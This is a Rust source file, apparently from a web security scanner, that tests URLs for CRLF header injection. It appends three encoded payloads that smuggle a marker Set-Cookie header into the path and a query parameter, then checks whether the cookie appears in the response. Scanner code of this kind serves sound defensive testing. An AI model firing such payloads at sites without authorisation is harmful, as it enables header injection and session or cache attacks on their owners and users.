use async_trait::async_trait;
use reqwest::header::SET_COOKIE;
use reqwest::Client;
use tracing::debug;

/// Cookie the payloads try to smuggle into the response headers.
pub const INJECTED_COOKIE: &str = "hunter_crlf=injected";

const PAYLOADS: &[&str] = &[
    "%0d%0aSet-Cookie:hunter_crlf=injected",
    "%0d%0a%20Set-Cookie:hunter_crlf=injected",
    "%E5%98%8A%E5%98%8DSet-Cookie:hunter_crlf=injected",
];

/// HTTP response splitting check.
#[async_trait]
pub trait CrlfProber: Send + Sync {
    /// One entry per input URL; on a hit the URL is the one that triggered it.
    async fn probe(&self, urls: &[String]) -> Vec<(String, bool)>;
}

/// Appends encoded CRLF + `Set-Cookie` payloads to the path and to a query
/// parameter. Expects a client that does not follow redirects.
pub struct HeaderInjectionProber {
    client: Client,
}

impl HeaderInjectionProber {
    pub fn new(client: Client) -> Self {
        HeaderInjectionProber { client }
    }

    fn candidates(base: &str) -> Vec<String> {
        let base = base.trim_end_matches('/');
        PAYLOADS
            .iter()
            .flat_map(|p| [format!("{base}/{p}"), format!("{base}/?hunter={p}")])
            .collect()
    }

    async fn injected(&self, url: &str) -> bool {
        match self.client.get(url).send().await {
            Ok(resp) => resp
                .headers()
                .get_all(SET_COOKIE)
                .iter()
                .filter_map(|v| v.to_str().ok())
                .any(|v| v.contains(INJECTED_COOKIE)),
            Err(e) => {
                debug!(url, "crlf probe failed: {e}");
                false
            }
        }
    }
}

#[async_trait]
impl CrlfProber for HeaderInjectionProber {
    async fn probe(&self, urls: &[String]) -> Vec<(String, bool)> {
        let mut out = Vec::with_capacity(urls.len());
        'urls: for base in urls {
            for candidate in Self::candidates(base) {
                if self.injected(&candidate).await {
                    out.push((candidate, true));
                    continue 'urls;
                }
            }
            out.push((base.clone(), false));
        }
        out
    }
}
